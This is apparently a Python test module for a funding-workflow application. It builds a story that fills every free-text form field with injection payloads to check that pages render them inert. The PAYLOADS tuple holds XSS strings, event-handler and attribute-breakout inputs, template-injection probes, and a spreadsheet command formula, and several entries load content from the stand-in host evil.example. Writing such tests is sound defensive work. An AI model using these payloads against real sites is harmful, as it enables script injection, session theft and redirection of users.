"""Forty texts that would run if a page let them, and a story that says nothing else."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from itertools import cycle
from pathlib import Path
from types import NoneType
from typing import Annotated, Any, get_args, get_origin
from uuid import UUID

from pydantic import BaseModel
from pydantic.fields import FieldInfo

from mptf.profile.form_rules import NEEDED
from tests.lives import Story
from workflows.acts import ACTS, STEPS
from workflows.forms import Nothing

MARK = "pwned"
ELSEWHERE = "evil.example"
"""A host that no page of ours has anything to do with."""

_RUN = f"window.{MARK}=1"
_ELSE = f"http://{ELSEWHERE}"

PAYLOADS = (
    # Elements that run, or fetch
    f"<script>{_RUN}</script>",
    f"<ScRiPt\n>{_RUN}</sCrIpT >",
    f"<script src={_ELSE}/a.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<iframe src={_ELSE}></iframe>",
    f"<object data={_ELSE}/o.swf></object>",
    f"<embed src={_ELSE}/e.svg>",
    f"<base href={_ELSE}/>",
    f"<meta http-equiv=refresh content='0;url={_ELSE}'>",
    f"<link rel=stylesheet href={_ELSE}/s.css>",
    f"<style>body{{background:url({_ELSE}/b.png)}}</style>",
    f"<form action={_ELSE}><button autofocus formaction=javascript:{_RUN}>x</button></form>",
    # Handlers
    f"<img src=x onerror={_RUN}>",
    f"<img/src='x'/onerror={_RUN}//",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}>",
    f"<b style=animation-name:x onanimationstart={_RUN}>x</b>",
    # Out of an attribute, an address, a script
    f'" autofocus onfocus="{_RUN}',
    f"' onmouseover='{_RUN}' x='",
    f"`onerror={_RUN}`",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;script&#62;{_RUN}&#60;/script&#62;",
    # In another language: a template's, Markdown's, a spreadsheet's, a writing from right to left
    "{{ 7 * 191 }}{% for x in y %}${7*191}<%= 7*191 %>#{7*191}",
    f"[x](javascript:{_RUN}) ![x]({_ELSE}/m.png)",
    "=cmd|'/c calc'!A0",
    f'@HYPERLINK("{_ELSE}","x")',
    f"\u202e\ufeff\u200b<script\u2028>{_RUN}</script\u2029>\U000e0001",
)

CODED = frozenset(
    "code content country csv definition entity field kind letter owner part partner party "
    "recusals rule score sdg_targets stakeholder_groups subject_kind".split()
)
"""Fields as wide as a text that hold a code all the same; a new one is a text until named here."""

NARROW = {
    "MovementForm.counterpart": 80,
    "DepositForm.bank_reference": 80,
    "InstalmentSent.trigger": 200,
    "DraftedSent.deviation": 2000,
    "ArrangementSent.deviation": 2000,
    "SignedSent.name": 200,
    "SignedSent.title": 200,
    "DiligenceSent.text": 2000,
    "ResponseSent.text": 2000,
    "WaivedSent.reason": 1000,
    "ClosingSent.text": 1000,
    "DiligenceSent.done_by": 200,
    "ContactSent.name": 200,
    "ContactSent.title": 200,
    "ContactSent.address": 200,
    "AskSent.name": 200,
    "AskSent.title": 200,
    "SignatureAskSent.name": 200,
    "SignatureAskSent.title": 200,
    "FileSent.name": 400,
    "InviteSent.name": 200,
}
"""Characters that a column takes where the form would take more."""

_A_TEXT = 200
"""Characters from which on a field is somebody's words."""


def places() -> set[str]:
    """Every free text of the form of every act and step: form and field."""
    forms = [_form_of(name) for name in (*ACTS, *STEPS)]
    return {place for form in forms for place in _places(form)}


class Laced(Story):
    """A story in which whatever may be said freely is a payload."""

    def __init__(self, *given: Any) -> None:
        super().__init__(*given)
        self.payloads = cycle(PAYLOADS)
        self.laced: dict[str, set[str]] = {}

    def act(
        self, who: str, name: str, on: UUID | None = None, /, *, why: str = "", **sent: Any
    ) -> Any:
        """The act, with other words."""
        reason = next(self.payloads) if why else ""
        return super().act(who, name, on, why=reason, **self._form(_form_of(name), sent))

    def fill_what_is_left(self) -> None:
        """The acts with words that no other story needs."""
        programme = self.fund_a_programme("To be released")
        self.spend(programme)
        self.release(programme)
        self.act(
            "chair",
            "person.delegate",
            giver=self.people["chair"],
            taker=self.people["deputy"],
            role="chair",
            from_on=self.today,
        )
        self.act("officer-1", "form.define", code="laced", definition=self._laced_form())
        self.announce(number="2022-9", opens_at=self.now.isoformat(), form="laced")
        self.act("E1", "concept-note.draft", call="2022-9", coordinator="E1")
        self.pipeline()

    def _laced_form(self) -> str:
        """A form in which everything that is read is a payload."""

        def said() -> str:
            return json.dumps(next(self.payloads), ensure_ascii=False)

        known = [f"{{ name = {name!r}, label = {said()}, help = {said()} }}" for name in NEEDED]
        option = f"{{ code = 'a', title = {said()} }}"
        own = f"{{ name = 'own', label = {said()}, kind = 'choice', options = [{option}] }}"
        fields = ", ".join([*known, own])
        return f"[[sections]]\ncode = 'all'\ntitle = {said()}\nfields = [{fields}]\n"

    def _form(self, form: type[BaseModel], sent: Mapping[str, Any]) -> dict[str, Any]:
        found = dict(sent)
        for name, info in form.model_fields.items():
            place = f"{form.__name__}.{name}"
            if place == "NoteContent.answers" and name in sent:
                said = sent[name].items()
                found[name] = {k: self._text(place) if isinstance(v, str) else v for k, v in said}
            elif name in sent:
                found[name] = self._value(_whole(info), sent[name], place)
            elif _is_text(_inner(_whole(info)), name):
                text = self._text(place)
                key = "theory_of_change" if name == "parts" else self.entities[0]
                made = {tuple: (text,), dict: {key: text}}
                found[name] = made.get(_origin(_whole(info)), text)
        return found

    def _value(self, kind: Any, value: Any, place: str) -> Any:
        inner = _inner(kind)
        match value:
            case str() if _is_text(inner, place.partition(".")[2]):
                text = self._text(place)
                # A file keeps the end of its name: it is held against its first bytes.
                return text + Path(value).suffix if place == "FileSent.name" else text
            case list() | tuple():
                return [self._value(inner, each, place) for each in value]
            case dict() if isinstance(inner, type) and issubclass(inner, BaseModel):
                return self._form(inner, value)
            case dict():
                return {key: self._value(inner, each, place) for key, each in value.items()}
        return value

    def _text(self, place: str) -> str:
        room = NARROW.get(place, 5000)
        text = next(text for text in self.payloads if len(text) <= room)
        if place == "PersonForm.email":  # a form takes anything around an @; each has its own
            text = f"<script>{_RUN}</script>{len(self.people)}@{ELSEWHERE}"
        self.laced.setdefault(place, set()).add(text)
        return text


def _form_of(name: str) -> type[BaseModel]:
    if name in ACTS:
        return ACTS[name].form
    workflow, trigger = STEPS[name]
    asks = [step.asks for step in workflow.steps if step.trigger == trigger]
    return next((each.form for each in asks if each is not None), Nothing)


def _places(form: type[BaseModel]) -> Iterator[str]:
    for name, info in form.model_fields.items():
        inner = _inner(_whole(info))
        if _is_text(inner, name):
            yield f"{form.__name__}.{name}"
        elif isinstance(inner, type) and issubclass(inner, BaseModel):
            yield from _places(inner)


def _whole(info: FieldInfo) -> Any:
    return Annotated[info.annotation, None, *info.metadata]


def _origin(kind: Any) -> Any:
    """What it is made of: a list, a mapping; of a choice of nothing, the other."""
    bare = get_args(kind)[0] if get_origin(kind) is Annotated else kind
    if NoneType in get_args(bare):
        bare = next(part for part in get_args(bare) if part is not NoneType)
    return get_origin(bare)


def _inner(kind: Any) -> Any:
    """What a list, a mapping or a choice of nothing holds in the end."""
    bare = get_args(kind)[0] if get_origin(kind) is Annotated else kind
    parts = [part for part in get_args(bare) if part not in {NoneType, Ellipsis}]
    if not parts or bare is str:
        return kind if bare is str else bare
    return _inner(parts[-1])


def _is_text(kind: Any, name: str) -> bool:
    if name in CODED or get_origin(kind) is not Annotated or get_args(kind)[0] is not str:
        return False
    longest = [_longest(mark) for mark in kind.__metadata__]
    narrow = any(_attribute(mark, "pattern") for mark in kind.__metadata__)
    return not narrow and max(longest, default=0) >= _A_TEXT


def _longest(mark: Any) -> int:
    return _attribute(mark, "max_length") or max(
        (_longest(part) for part in _attribute(mark, "metadata") or ()), default=0
    )


def _attribute(mark: Any, name: str) -> Any:
    return getattr(mark, name, None)
